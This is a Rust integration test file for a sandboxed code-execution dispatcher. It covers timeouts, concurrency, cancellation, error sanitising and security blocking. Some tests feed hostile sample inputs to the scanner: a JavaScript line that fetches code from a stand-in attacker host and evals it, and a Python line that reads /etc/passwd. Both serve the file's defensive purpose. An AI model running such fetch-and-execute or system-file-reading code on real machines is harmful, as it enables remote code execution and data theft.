mod common;

use codeplay_core::config::{CodeplayConfig, RegistryConfig, SessionConfig};
use codeplay_core::core_types::{ErrorType, ExecutionRequest, Language};
use codeplay_core::dispatcher::ExecutionDispatcher;
use codeplay_core::engines::EngineCapabilities;
use codeplay_core::registry::EngineRegistry;
use codeplay_core::session::SessionManager;
use common::{eventually, FakeBehavior, FakeFactory, Tally};
use serde_json::json;
use std::sync::Arc;
use std::time::{Duration, Instant};

fn dispatcher_with(language: Language, behavior: FakeBehavior) -> (ExecutionDispatcher, Arc<Tally>) {
    let (factory, tally) = FakeFactory::new(language, behavior).build();
    let registry = EngineRegistry::new(&RegistryConfig::default()).with_factory(factory);
    (ExecutionDispatcher::new(registry).unwrap(), tally)
}

#[tokio::test]
async fn test_demo_language_round_trip() {
    let dispatcher = ExecutionDispatcher::from_config(&CodeplayConfig::default()).unwrap();
    let request: ExecutionRequest =
        serde_json::from_value(json!({"code": "emit('hello')", "language": "demoLang"})).unwrap();

    let result = dispatcher.execute(request).await;

    assert!(result.success, "{:?}", result.error);
    assert_eq!(result.output, "hello");
    assert!(result.error.is_none());
}

#[tokio::test]
async fn test_empty_code_never_reaches_engine() {
    let (dispatcher, tally) = dispatcher_with(Language::Demo, FakeBehavior::Echo);

    for code in ["", "   ", "\n\t\n"] {
        let result = dispatcher.execute(ExecutionRequest::new(code, Language::Demo)).await;
        assert!(!result.success);
        assert!(result.error.unwrap().contains("empty"));
    }

    assert_eq!(tally.inits(), 0);
    assert_eq!(tally.calls(), 0);
}

#[tokio::test]
async fn test_unregistered_language() {
    let (dispatcher, tally) = dispatcher_with(Language::Demo, FakeBehavior::Echo);

    let result = dispatcher
        .execute(ExecutionRequest::new("print('hi')", Language::Python))
        .await;

    assert!(!result.success);
    assert!(result.error.unwrap().to_lowercase().contains("unsupported language"));
    assert!(result.metadata.get("security_violations").is_none());
    assert_eq!(tally.calls(), 0);
    assert!(!dispatcher.is_language_supported("python"));
}

#[tokio::test]
async fn test_eval_with_network_is_blocked_before_execution() {
    let (dispatcher, tally) = dispatcher_with(Language::JavaScript, FakeBehavior::Echo);
    let code = "fetch('https://evil.example/p').then(r => r.text()).then(t => eval(t));";

    let result = dispatcher
        .execute(ExecutionRequest::new(code, Language::JavaScript))
        .await;

    assert!(!result.success);
    let processed = result.processed_error.unwrap();
    assert_eq!(processed.error_type, ErrorType::Security);
    assert!(!processed.can_retry);
    assert!(result.metadata["risk_score"].as_f64().unwrap() > 7.0);
    assert_eq!(tally.calls(), 0);
}

#[tokio::test]
async fn test_filesystem_access_is_blocked() {
    let (dispatcher, tally) = dispatcher_with(Language::Python, FakeBehavior::Echo);

    let result = dispatcher
        .execute(ExecutionRequest::new(
            "print(open('/etc/passwd').read())",
            Language::Python,
        ))
        .await;

    assert!(!result.success);
    assert_eq!(result.processed_error.unwrap().error_type, ErrorType::Security);
    assert_eq!(tally.calls(), 0);
}

#[tokio::test]
async fn test_non_blocking_violations_are_reported() {
    let (dispatcher, tally) = dispatcher_with(Language::JavaScript, FakeBehavior::Echo);

    let result = dispatcher
        .execute(ExecutionRequest::new(
            "localStorage.setItem('k', 'v');",
            Language::JavaScript,
        ))
        .await;

    assert!(result.success);
    assert_eq!(tally.calls(), 1);
    assert_eq!(
        result.metadata["security_violations"][0]["pattern"],
        json!("js-storage-access")
    );
}

#[tokio::test]
async fn test_hanging_engine_times_out() {
    let (dispatcher, tally) = dispatcher_with(Language::Demo, FakeBehavior::Hang);
    let started = Instant::now();

    let result = dispatcher
        .execute(ExecutionRequest::new("loop()", Language::Demo).with_timeout_ms(200))
        .await;

    assert!(started.elapsed() < Duration::from_millis(200 + 800));
    assert!(!result.success);
    let processed = result.processed_error.unwrap();
    assert_eq!(processed.error_type, ErrorType::Timeout);
    assert!(processed.can_retry);
    assert_eq!(processed.retry_delay_ms, Some(2_000));
    assert_eq!(tally.calls(), 1);
}

#[tokio::test]
async fn test_engine_sees_clamped_limits() {
    let (dispatcher, tally) = dispatcher_with(Language::Demo, FakeBehavior::Echo);

    dispatcher
        .execute(
            ExecutionRequest::new("emit('x')", Language::Demo)
                .with_timeout_ms(10 * 60 * 1000)
                .with_memory_limit(0),
        )
        .await;

    let seen = tally.last_request().unwrap();
    assert_eq!(seen.options.timeout_ms, Some(120_000));
    assert_eq!(seen.options.memory_limit_bytes, Some(64 * 1024 * 1024));
}

#[tokio::test]
async fn test_engine_failure_is_classified_and_sanitized() {
    let (dispatcher, _tally) = dispatcher_with(
        Language::Python,
        FakeBehavior::Fail(
            "Traceback (most recent call last):\n  File \"/tmp/run-1/main.py\", line 1, in <module>\n    1 / 0\nZeroDivisionError: division by zero"
                .to_string(),
        ),
    );

    let result = dispatcher
        .execute(ExecutionRequest::new("1 / 0", Language::Python))
        .await;

    assert!(!result.success);
    assert_eq!(result.error.as_deref(), Some("ZeroDivisionError: division by zero"));
    let processed = result.processed_error.unwrap();
    assert_eq!(processed.error_type, ErrorType::Runtime);
    assert_eq!(
        processed.suggestions[0],
        "Check that the divisor is not zero before dividing"
    );
    assert!((1..=5).contains(&processed.suggestions.len()));
}

#[tokio::test]
async fn test_panicking_engine_is_contained() {
    let (dispatcher, _tally) = dispatcher_with(Language::Demo, FakeBehavior::Panic);

    let result = dispatcher
        .execute(ExecutionRequest::new("boom()", Language::Demo))
        .await;

    assert!(!result.success);
    assert!(result.error.unwrap().contains("Engine crashed"));
    assert_eq!(result.processed_error.unwrap().error_type, ErrorType::Runtime);

    // The dispatcher keeps serving afterwards.
    let again = dispatcher
        .execute(ExecutionRequest::new("boom()", Language::Demo))
        .await;
    assert!(!again.success);
}

#[tokio::test]
async fn test_concurrency_is_bounded() {
    let (factory, tally) = FakeFactory::new(Language::Demo, FakeBehavior::Delay(Duration::from_millis(50))).build();
    let registry = EngineRegistry::new(&RegistryConfig::default()).with_factory(factory);
    let dispatcher = ExecutionDispatcher::new(registry).unwrap().with_max_concurrent(2);

    let requests = (0..6).map(|i| dispatcher.execute(ExecutionRequest::new(format!("emit('{}')", i), Language::Demo)));
    let results = futures::future::join_all(requests).await;

    assert!(results.iter().all(|r| r.success));
    assert_eq!(tally.calls(), 6);
    assert!(tally.max_running() <= 2, "max running was {}", tally.max_running());
}

#[tokio::test]
async fn test_cancel_all_stops_running_execution() {
    let (dispatcher, tally) = dispatcher_with(Language::Demo, FakeBehavior::Hang);
    let dispatcher = Arc::new(dispatcher);

    let running = {
        let dispatcher = dispatcher.clone();
        tokio::spawn(async move {
            dispatcher
                .execute(ExecutionRequest::new("wait()", Language::Demo).with_timeout_ms(30_000))
                .await
        })
    };

    assert!(eventually(|| { let tally = tally.clone(); async move { tally.running() == 1 } }).await);
    assert_eq!(dispatcher.cancel_all().await, 1);

    let result = tokio::time::timeout(Duration::from_secs(2), running)
        .await
        .unwrap()
        .unwrap();
    assert!(!result.success);
    assert!(result.error.unwrap().contains("cancelled"));
}

#[tokio::test]
async fn test_packages_dropped_for_engines_without_package_support() {
    let (dispatcher, tally) = dispatcher_with(Language::Demo, FakeBehavior::Echo);

    let result = dispatcher
        .execute(ExecutionRequest::new("emit('x')", Language::Demo).with_packages(["numpy"]))
        .await;

    assert!(result.success);
    assert_eq!(result.metadata["ignored_packages"], json!(["numpy"]));
    assert!(tally.last_request().unwrap().options.packages.is_empty());
}

#[tokio::test]
async fn test_packages_forwarded_to_capable_engines() {
    let (factory, tally) = FakeFactory::new(Language::Python, FakeBehavior::Echo)
        .with_capabilities(EngineCapabilities {
            supports_packages: true,
            ..Default::default()
        })
        .build();
    let registry = EngineRegistry::new(&RegistryConfig::default()).with_factory(factory);
    let dispatcher = ExecutionDispatcher::new(registry).unwrap();

    let result = dispatcher
        .execute(ExecutionRequest::new("import toolz", Language::Python).with_packages(["toolz"]))
        .await;

    assert!(result.success);
    assert!(result.metadata.get("ignored_packages").is_none());
    assert_eq!(tally.last_request().unwrap().options.packages, vec!["toolz"]);
}

#[tokio::test]
async fn test_validate_code_is_idempotent_and_side_effect_free() {
    let (dispatcher, tally) = dispatcher_with(Language::Demo, FakeBehavior::Echo);

    let first = dispatcher.validate_code("emit('x')", Language::Demo).await;
    let second = dispatcher.validate_code("emit('x')", Language::Demo).await;

    assert!(first);
    assert_eq!(first, second);
    assert!(!dispatcher.validate_code("", Language::Demo).await);
    assert!(!dispatcher.validate_code("x", Language::Python).await);
    assert_eq!(tally.calls(), 0);
}

#[tokio::test]
async fn test_security_can_be_disabled() {
    let mut config = CodeplayConfig::default();
    config.security.enabled = false;
    let dispatcher = ExecutionDispatcher::from_config(&config).unwrap();

    let result = dispatcher
        .execute(ExecutionRequest::new("emit('/etc/passwd')", Language::Demo))
        .await;

    assert!(result.success);
    assert_eq!(result.output, "/etc/passwd");
}

#[tokio::test]
async fn test_execution_time_and_stats() {
    let (dispatcher, _tally) = dispatcher_with(Language::Demo, FakeBehavior::Delay(Duration::from_millis(30)));

    let result = dispatcher
        .execute(ExecutionRequest::new("emit('x')", Language::Demo))
        .await;

    assert!(result.execution_time_ms >= 30);
    let stats = dispatcher.stats();
    assert_eq!(stats.executions, 1);
    assert_eq!(stats.per_language[&Language::Demo].executions, 1);
}

#[tokio::test]
async fn test_dropped_execution_stops_the_engine() {
    let (dispatcher, tally) = dispatcher_with(Language::Demo, FakeBehavior::Hang);

    let abandoned = tokio::time::timeout(
        Duration::from_millis(100),
        dispatcher.execute(ExecutionRequest::new("wait()", Language::Demo).with_timeout_ms(30_000)),
    )
    .await;
    assert!(abandoned.is_err());

    let stopped = eventually(|| {
        let tally = tally.clone();
        async move { tally.running() == 0 }
    })
    .await;
    assert!(stopped, "engine kept running after its caller went away");
    assert_eq!(dispatcher.cancel_all().await, 0);
}

#[tokio::test]
async fn test_stderr_paths_are_sanitized() {
    let (dispatcher, _tally) = dispatcher_with(
        Language::Demo,
        FakeBehavior::Warn("/home/ada/project/main.py:3: DeprecationWarning: old api".to_string()),
    );

    let result = dispatcher.execute(ExecutionRequest::new("emit('x')", Language::Demo)).await;

    assert!(result.success, "{:?}", result.error);
    assert_eq!(result.metadata["stderr"], json!("<path>:3: DeprecationWarning: old api"));
}

#[tokio::test]
async fn test_maintenance_runs_without_being_called() {
    let (factory, tally) = FakeFactory::new(Language::Python, FakeBehavior::Echo)
        .with_capabilities(EngineCapabilities {
            stateful_across_calls: true,
            ..Default::default()
        })
        .build();
    let registry = EngineRegistry::new(&RegistryConfig {
        capacity: 4,
        idle_timeout_secs: 0,
    })
    .with_factory(factory);
    let dispatcher = Arc::new(
        ExecutionDispatcher::new(registry)
            .unwrap()
            .with_sessions(SessionManager::new(SessionConfig {
                anonymous_ttl_secs: 0,
                ..Default::default()
            }))
            .with_maintenance_interval(Duration::from_millis(20)),
    );

    let result = dispatcher
        .execute(ExecutionRequest::new("x = 1", Language::Python).with_session("scratch"))
        .await;
    assert!(result.success);

    let swept = eventually(|| {
        let dispatcher = dispatcher.clone();
        let tally = tally.clone();
        async move {
            dispatcher.sessions().session_count().await == 0
                && dispatcher.registry().loaded_languages().await.is_empty()
                && !tally.cleanups().is_empty()
        }
    })
    .await;
    assert!(swept, "idle session or engine survived maintenance");
    dispatcher.shutdown().await;
}
